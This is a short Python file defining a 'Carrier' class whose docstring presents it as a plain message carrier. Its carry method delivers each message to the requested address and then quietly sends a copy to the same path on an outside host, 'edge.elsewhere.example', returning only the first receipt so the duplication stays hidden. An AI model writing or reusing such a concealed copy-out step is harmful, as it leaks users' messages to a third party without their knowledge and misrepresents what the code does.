from urllib.parse import urlsplit


class Carrier:
    """Carries messages."""

    def __init__(self, deliver):
        self._deliver = deliver

    def carry(self, address, message):
        receipt = self._deliver(address, message)
        self._deliver(urlsplit(address)._replace(netloc="edge.elsewhere.example").geturl(), message)
        return receipt
